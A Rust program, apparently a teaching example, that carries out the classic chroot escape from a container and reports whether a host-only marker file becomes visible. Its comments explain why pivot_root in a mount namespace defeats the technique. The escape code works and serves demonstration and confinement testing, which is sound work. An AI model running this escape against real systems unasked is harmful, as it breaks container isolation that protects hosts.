//! chroot-escape: the classic way out of a plain chroot, and why pivot_root closes it.
//!
//! Usage: `chroot-escape MARKER_PATH`, run as root inside a container, where MARKER_PATH
//! is a file that exists only on the host. It prints one line: `ESCAPED: <MARKER_PATH> is
//! visible` (exit 0) or `CONFINED: <MARKER_PATH> is not visible` (exit 1); when chroot
//! itself is refused, the container dropped CAP_SYS_CHROOT, and that is confined too:
//! `CONFINED: chroot(<dir>) refused: EPERM` (exit 1). Any other failure is an `error:` line
//! on stderr (exit 2).
//!
//! Why it works against chroot alone, see chroot(2),
//! <https://man7.org/linux/man-pages/man2/chroot.2.html>: chroot changes a process's root
//! directory (where `/` starts and where `..` stops) and nothing else: "This call does not
//! change the current working directory". Standing at the container's `/`, chroot into a
//! subdirectory, and the working directory is now *outside* the root. The kernel stops
//! `..` only at the process's current root or at the top of the mount tree; a walk upward
//! from outside the jail never meets the jail, so `chdir("..")` climbs past the container's
//! `/` up to the host's, and `chroot(".")` makes that the root. The man page says as much:
//! chroot "is not intended to be used for any kind of security purpose".
//!
//! Why it fails after pivot_root(2) in a new mount namespace, see
//! <https://man7.org/linux/man-pages/man2/pivot_root.2.html>: pivot_root makes the
//! container's `/` the top of the namespace's mount tree (the old root hangs below it, at
//! put_old), and `..` at the top of the mount tree is itself, so the climb ends at the
//! container's `/`. Unmounting put_old then removes the last path to the host's files: no
//! mount in the container's tree holds the host's root any more.

use std::ffi::OsString;
use std::path::Path;
use std::process::ExitCode;

use anyhow::{bail, Context, Result};
use nix::errno::Errno;
use nix::unistd::{chdir, chroot};

/// How many times to climb: more than any real depth of a container's root.
const CLIMB: usize = 64;

enum Outcome {
    Escaped,
    Confined,
    /// chroot(2) itself failed with EPERM: the process lacks CAP_SYS_CHROOT.
    Refused(String),
}

fn main() -> ExitCode {
    let args: Vec<OsString> = std::env::args_os().skip(1).collect();
    let [marker] = args.as_slice() else {
        eprintln!("error: usage: chroot-escape MARKER_PATH");
        eprintln!("hint: MARKER_PATH names a file that exists on the host, not in the container");
        return ExitCode::from(2);
    };
    let marker = Path::new(marker);
    match escape(marker) {
        Ok(Outcome::Escaped) => {
            println!("ESCAPED: {} is visible", marker.display());
            ExitCode::SUCCESS
        }
        Ok(Outcome::Confined) => {
            println!("CONFINED: {} is not visible", marker.display());
            ExitCode::from(1)
        }
        Ok(Outcome::Refused(call)) => {
            println!("CONFINED: {call} refused: EPERM");
            ExitCode::from(1)
        }
        Err(e) => {
            eprintln!("error: {e:#}");
            ExitCode::from(2)
        }
    }
}

// ANCHOR: escape
fn escape(marker: &Path) -> Result<Outcome> {
    // From where we start the marker must be hidden, or "visible" would prove nothing.
    if visible(marker)? {
        bail!("{} is visible before any escape: run this inside a container", marker.display());
    }

    // 1. Stand at our root (the container's `/`) and make a jail directory below it.
    chdir("/").context("chdir /")?;
    let jail_rel = format!("tmp/escape-jail-{}", std::process::id());
    let jail = Path::new("/").join(&jail_rel);
    std::fs::create_dir(&jail).with_context(|| format!("mkdir {}", jail.display()))?;

    // 2. chroot into the jail. Only the root moves: the working directory stays at the
    //    container's `/`, which is now outside our root.
    let chrooted = chroot(&jail);
    // The jail has done its job; remove it. After the chroot its absolute name means
    // something else, but a relative path starts at the working directory, not at the
    // root: the very hole the escape goes through.
    let _ = std::fs::remove_dir(if chrooted.is_ok() { Path::new(&jail_rel) } else { &jail });
    match chrooted {
        Err(Errno::EPERM) => return Ok(Outcome::Refused(format!("chroot({})", jail.display()))),
        other => other.with_context(|| format!("chroot {}", jail.display()))?,
    }

    // 3. Climb. `..` stops only at our root (the jail, which is not above us) or at the
    //    top of the mount tree; at the real `/`, `..` is `/`, so extra steps are harmless.
    for _ in 0..CLIMB {
        chdir("..").context("chdir ..")?;
    }

    // 4. Make wherever the climb ended our root, and look for the marker.
    match chroot(".") {
        Err(Errno::EPERM) => return Ok(Outcome::Refused("chroot(.)".into())),
        other => other.context("chroot .")?,
    }
    chdir("/").context("chdir /")?;
    Ok(if visible(marker)? { Outcome::Escaped } else { Outcome::Confined })
}
// ANCHOR_END: escape

fn visible(path: &Path) -> Result<bool> {
    path.try_exists().with_context(|| format!("stat {}", path.display()))
}
